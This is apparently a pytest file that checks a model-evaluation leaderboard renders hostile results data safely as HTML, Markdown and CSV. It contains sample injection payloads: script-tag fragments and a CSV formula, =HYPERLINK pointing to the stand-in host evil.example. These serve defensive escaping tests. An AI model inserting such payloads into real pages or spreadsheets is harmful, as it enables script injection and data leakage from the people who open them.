"""The leaderboard built from results files full of payloads (synthetic_runs.write_hostile): every output stays whole.

``leaderboard.json`` is the reference: json.loads reads each value as the file held it, and the
other three files must show exactly those values, as data. The page is read back with the standard
library's ``html.parser``, the Markdown with markdown-it-py (raw HTML on, GFM tables) and a plain
GFM cell split, the CSV with the ``csv`` module. tests/leaderboard/test_browser.py opens the same
page in Chromium.
"""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser

import pytest
from synthetic_runs import HOSTILE_TASK, write_hostile

from skillneuron_harness.leaderboard import build_leaderboard
from skillneuron_harness.leaderboard.render_html import SCRIPT

FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture(scope="module")
def board(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    paths = build_leaderboard(None, root / "board", from_dirs=[write_hostile(root)])
    return paths, json.loads(paths["json"].read_text(encoding="utf-8"))


class Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._script = tag == "script"

    def handle_endtag(self, tag):
        self._script = False

    def handle_data(self, data):
        if self._script:
            self.scripts.append(data)


def test_the_payloads_reach_the_document(board):
    _, doc = board
    hashes = [r["prompt_sha256"] for r in doc["entries"]]
    assert {"<script>`", "`//</script>", "<script><!--", "</script>"} <= set(hashes)
    assert HOSTILE_TASK in [c["key"] for c in doc["columns"]]
    assert any(r["values"]["pdr"]["value"] < 0 for r in doc["entries"])


def test_page_has_no_markup_of_the_data(board):
    paths, doc = board
    page = Page()
    page.feed(paths["html"].read_text(encoding="utf-8"))
    page.close()
    tags = [t for t, _ in page.tags]
    assert tags.count("script") == 1 and "img" not in tags and tags.count("svg") == 2
    assert not [(t, a) for t, a in page.tags for name in a if name.startswith("on")]  # no event handler
    assert "autofocus" not in {name for _, a in page.tags for name in a}
    # every href is a fragment inside the page (the figures' clip paths): none is built from data
    assert all(a["href"].startswith("#") for _, a in page.tags if "href" in a)
    assert all(a["xlink:href"].startswith("#") for _, a in page.tags if "xlink:href" in a)
    # the rows, in rank order, with the labels and hashes as the results files hold them
    bodies = [a for t, a in page.tags if t == "tbody" and "entry" in a.get("class", "")]
    assert [b["data-label"] for b in bodies] == [r["label"] for r in doc["entries"]]
    prompts = [a for t, a in page.tags if t == "td" and a.get("data-key") == "prompt"]
    assert [p["data-v"] for p in prompts] == [r["prompt_sha256"] or "" for r in doc["entries"]]
    heads = [a["data-key"] for t, a in page.tags if t == "th" and "data-key" in a]
    assert HOSTILE_TASK in heads
    # the one script is the page's own sort script, whole: no value opened, closed or joined it
    (script,) = page.scripts
    assert script == SCRIPT


def _cells(line: str) -> list[str]:
    """A GFM table row's cells: split at pipes not preceded by a backslash, outer pipes dropped."""
    return re.split(r"(?<!\\)\|", line.strip())[1:-1]


def _without_code(text: str) -> str:
    """Markdown with its code spans removed (their content is literal: HTML there never renders)."""
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)


def test_markdown_keeps_its_table_and_shows_no_html(board):
    paths, doc = board
    text = paths["md"].read_text(encoding="utf-8")
    table = [line for line in text.splitlines() if line.startswith("|")]
    width = len(_cells(table[0]))
    assert width == 4 + len(doc["columns"]) + 1  # rank, entry, model, docs, the columns, prompt hash
    assert len(table) == 2 + len(doc["entries"]) and all(len(_cells(line)) == width for line in table)
    assert not re.search(r"<(img|script|svg)", _without_code(text), re.IGNORECASE)
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is in the test extra")
    page = Page()
    page.feed(markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    tags = [t for t, _ in page.tags]
    assert "img" not in tags and "script" not in tags and "a" not in tags
    rows = [i for i, t in enumerate(tags) if t == "tr"]
    assert len(rows) == 1 + len(doc["entries"])
    for start, end in zip(rows, [*rows[1:], len(tags)], strict=True):
        assert sum(t in ("td", "th") for t in tags[start:end]) == width
    headings = [line for line in text.splitlines() if line.startswith("### ")]
    assert len(headings) == len(doc["entries"])  # a label's line break made no heading or list of its own


def test_csv_cells_are_the_values_neutralised(board):
    paths, doc = board
    with paths["csv"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(doc["entries"])

    def neutral(text: str) -> str:
        return "'" + text if text.startswith(FORMULA) and not NUMBER.fullmatch(text) else text

    for row, entry in zip(rows, doc["entries"], strict=True):
        for key in ("label", "model", "model_name", "lm_eval_model"):
            assert row[key] == neutral(entry[key]), key
        assert row["prompt_sha256"] == neutral(entry["prompt_sha256"] or "")
        assert float(row["pdr"]) == entry["values"]["pdr"]["value"]  # negative PDR: a number, unquoted
        for cell in row.values():
            assert not cell.startswith(FORMULA) or NUMBER.fullmatch(cell), cell
    assert rows[-1]["model_name"] == '\'=HYPERLINK("http://evil.example/?x","click")'
    assert HOSTILE_TASK in rows[0] and f"{HOSTILE_TASK}_stderr" in rows[0]  # its header, starting with t, as is
